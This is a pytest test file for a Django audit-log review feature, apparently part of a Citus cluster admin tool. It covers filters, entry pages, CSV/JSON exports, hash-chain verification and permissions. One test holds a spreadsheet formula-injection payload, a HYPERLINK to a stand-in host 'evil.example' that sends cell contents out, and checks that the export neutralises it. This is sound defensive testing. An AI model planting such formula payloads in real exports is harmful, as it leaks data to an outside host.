"""Audit review: filters, an entry's page, streamed exports, verification."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from audit.actions import record
from audit.models import AuditEntry


@pytest.fixture
def trail(db, admin, operator):
    record(admin, "clusters.register", "succeeded", target="prod-eu", parameters={"host": "10.0.0.1"}, sql="SELECT 1")
    record(operator, "nodes.add_node", "denied", target="10.0.0.9:5432", error="missing permission nodes.add_node")
    record(operator, "jobs.rebalance.start", "failed", target="prod-eu", error="broker down", job_id=7)
    return list(AuditEntry.objects.order_by("id"))


def test_filters_narrow_the_list(client, auditor, trail):
    client.force_login(auditor)
    assert "nodes.add_node" not in client.get("/audit/?actor=alice-admin").content.decode()
    body = client.get("/audit/?outcome=denied").content.decode()
    assert "nodes.add_node" in body and "clusters.register" not in body
    assert "jobs.rebalance.start" in client.get("/audit/?action=jobs.").content.decode()
    assert "jobs.rebalance.start" in client.get("/audit/?q=broker").content.decode()
    future = (timezone.now() + timedelta(days=1)).date().isoformat()
    assert "No entries." in client.get(f"/audit/?since={future}").content.decode()


def test_an_entry_page_shows_parameters_sql_and_job(client, auditor, trail):
    client.force_login(auditor)
    register, _, start = trail
    body = client.get(f"/audit/{register.pk}/").content.decode()
    assert "10.0.0.1" in body and "SELECT 1" in body and register.hash in body
    assert "/jobs/7/" in client.get(f"/audit/{start.pk}/").content.decode()


def test_the_csv_export_streams_one_row_per_entry_in_utc(client, auditor, trail):
    client.force_login(auditor)
    response = client.get("/audit/export.csv?outcome=failed")
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1 and rows[0]["action"] == "jobs.rebalance.start"
    assert rows[0]["created_at"].endswith("+00:00")
    assert "utc" in response["Content-Disposition"]


def test_the_json_export_parses(client, auditor, trail):
    client.force_login(auditor)
    response = client.get("/audit/export.json")
    data = json.loads(b"".join(response.streaming_content))
    entries = [e for e in data["entries"] if not e["action"].startswith("accounts.")]  # the sign-in is audited too
    assert data["timezone"] == "UTC" and len(entries) == 3


def test_the_verify_page_reports_an_intact_chain(client, auditor, trail):
    client.force_login(auditor)
    assert "Intact." in client.get("/audit/verify/").content.decode()


def test_viewers_cannot_review_or_export(client, viewer, trail):
    client.force_login(viewer)
    for url in ("/audit/", "/audit/export.csv", "/audit/verify/", f"/audit/{trail[0].pk}/"):
        assert client.get(url).status_code == 403


def test_the_list_costs_the_same_with_many_entries(client, auditor, trail):
    client.force_login(auditor)

    def cost() -> int:
        with CaptureQueriesContext(connection) as queries:
            client.get("/audit/?outcome=succeeded&action=bulk")
        return len(queries)

    cost()  # the first request after signing in also writes the session
    small = cost()
    AuditEntry.objects.bulk_create(
        [AuditEntry(action=f"bulk.{i}", outcome="succeeded", source="system") for i in range(20_000)], batch_size=5000
    )
    assert cost() == small


def test_an_impossible_date_is_ignored_not_an_error(client, auditor, trail):
    client.force_login(auditor)
    response = client.get("/audit/?since=2026-13-45&until=not-a-date")
    assert response.status_code == 200 and "clusters.register" in response.content.decode()


def _export_link(body: str, fmt: str) -> str:
    import html
    import re

    return html.unescape(re.search(rf'href="(/audit/export\.{fmt}\?[^"]*)"', body).group(1))


def _csv(client, url: str) -> list[dict[str, str]]:
    text = b"".join(client.get(url).streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_the_export_link_holds_exactly_the_rows_on_the_page(client, auditor, db):
    """Filter values with '+', '&' and '=' reach the export unchanged (they were not URL-encoded)."""
    from urllib.parse import urlencode

    for i in range(8):
        record(None, "jobs.vacuum.end", "succeeded", actor_name="sec.ops+1", target=f"t{i}")
    record(None, "jobs.analyze.end", "denied", actor_name="other", target="a&outcome=denied")
    client.force_login(auditor)
    for filters, expected in (
        ({"actor": "sec.ops+1"}, 8),
        ({"q": "a&outcome=denied"}, 1),
        ({"q": "a", "outcome": "denied"}, 1),
    ):
        body = client.get("/audit/?" + urlencode(filters)).content.decode()
        shown = body.count('<tr class="outcome-')
        rows = _csv(client, _export_link(body, "csv"))
        assert len(rows) == expected == shown, (filters, shown, len(rows))
        json_rows = json.loads(b"".join(client.get(_export_link(body, "json")).streaming_content))["entries"]
        assert len(json_rows) == expected


def test_csv_cells_are_safe_to_open_in_a_spreadsheet(client, auditor, db):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    record(None, "accounts.login", "failed", actor_name=evil, target="+1-555", error="@SUM(1)")
    client.force_login(auditor)
    (row,) = [r for r in _csv(client, "/audit/export.csv") if r["target"].endswith("555")]
    assert row["actor_name"] == "'" + evil
    assert row["target"] == "'+1-555" and row["error"] == "'@SUM(1)"
    body = json.loads(b"".join(client.get("/audit/export.json").streaming_content))
    assert evil in [e["actor_name"] for e in body["entries"]]  # JSON keeps the value as it is


def test_an_entry_leads_with_the_statement_that_changed_the_cluster(client, auditor, db):
    reads = [
        "SELECT set_config('statement_timeout', '10000ms', false)",
        "SELECT n.nodeid, n.groupid FROM pg_dist_node n ORDER BY n.nodeid",
        "WITH p AS (SELECT 1) SELECT * FROM p",
    ]
    change = "SELECT citus_add_node('10.0.0.9', 5432)"
    entry = record(None, "nodes.add_node", "succeeded", sql=";\n".join([*reads[:2], change, reads[2]]))
    client.force_login(auditor)
    page = client.get(f"/audit/{entry.pk}/").content.decode()
    changes = page.split('id="sql-changes">')[1].split("</pre>")[0]
    assert changes.strip() == "SELECT citus_add_node(&#x27;10.0.0.9&#x27;, 5432);"
    assert page.index('id="sql-changes"') < page.index('id="sql-reads"')
    assert "3 reads and session settings before it" in page
    only_reads = record(None, "clusters.test_connection", "succeeded", sql=";\n".join(reads))
    assert 'id="sql-no-change"' in client.get(f"/audit/{only_reads.pk}/").content.decode()
